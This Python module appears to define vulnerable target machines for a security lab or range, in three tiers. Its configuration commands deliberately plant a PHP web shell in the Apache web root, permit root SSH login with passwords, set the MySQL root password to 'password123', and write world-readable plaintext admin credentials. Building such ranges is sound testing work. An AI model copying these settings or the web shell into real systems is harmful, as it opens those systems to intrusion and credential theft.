"""
Tier definitions - base images, expected services and target configuration

tier1: Ubuntu + Apache
tier2: Ubuntu + SSH/MySQL
tier3: Ubuntu + custom service
"""

from typing import Dict, Union

from .models import ServiceSpec, Tier, TierDefinition


TIERS: Dict[Tier, TierDefinition] = {
    Tier.TIER1: TierDefinition(
        tier=Tier.TIER1,
        base_image="nexus-tier1-base",
        services=(
            ServiceSpec("http", 80),
            ServiceSpec("ssh", 22),
        ),
        configuration_commands=(
            'echo "ServerTokens Full" >> /etc/apache2/apache2.conf',
            'echo "ServerSignature On" >> /etc/apache2/apache2.conf',
            "echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/shell.php",
        ),
    ),
    Tier.TIER2: TierDefinition(
        tier=Tier.TIER2,
        base_image="nexus-tier2-base",
        services=(
            ServiceSpec("ssh", 22),
            ServiceSpec("mysql", 3306),
        ),
        configuration_commands=(
            'echo "PermitRootLogin yes" >> /etc/ssh/sshd_config',
            'echo "PasswordAuthentication yes" >> /etc/ssh/sshd_config',
            "mysql -e \"ALTER USER 'root'@'localhost' IDENTIFIED BY 'password123';\"",
        ),
    ),
    Tier.TIER3: TierDefinition(
        tier=Tier.TIER3,
        base_image="nexus-tier3-base",
        services=(
            ServiceSpec("ssh", 22),
            ServiceSpec("custom", 8080),
        ),
        configuration_commands=(
            'echo "admin:password" > /etc/service/credentials.txt',
            "chmod 644 /etc/service/credentials.txt",
        ),
    ),
}


def get_tier(tier: Union[Tier, str]) -> TierDefinition:
    """
    Look up a tier definition.

    Raises:
        ValueError: If the tier is unknown
    """
    return TIERS[Tier(tier)]
